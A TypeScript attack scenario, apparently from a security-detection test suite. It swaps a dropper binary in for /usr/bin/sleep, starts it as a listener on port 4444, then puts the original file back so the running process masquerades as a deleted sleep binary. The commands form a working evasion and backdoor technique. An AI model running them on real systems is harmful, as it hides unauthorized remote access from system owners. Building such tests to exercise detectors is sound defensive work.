import { readlinkSync } from "node:fs";
import type { Attack } from "../attack.ts";
import { until } from "../site.ts";

export const attack: Attack = {
  async act(site) {
    await site.copyIn(site.images.dropper, "/tmp/fetched");
    const script = `cp /usr/bin/sleep /usr/bin/sleep.kept
      cp /tmp/fetched /tmp/moved; mv /tmp/moved /usr/bin/sleep
      /usr/bin/sleep -l -p 4444 & while [ "$(readlink /proc/$!/exe)" != /usr/bin/sleep ]; do :; done
      mv /usr/bin/sleep.kept /usr/bin/sleep; echo "{\\"pid\\": $!}" >/run/web/done.said; wait`;
    await site.exec(["/usr/bin/sh", "-c", script]);
    const pid = site.hostPid((await site.said("done")).pid);
    await until("the listed program's return", () => readlinkSync(`/proc/${pid}/exe`) === "/usr/bin/sleep (deleted)");
    return pid;
  },
};
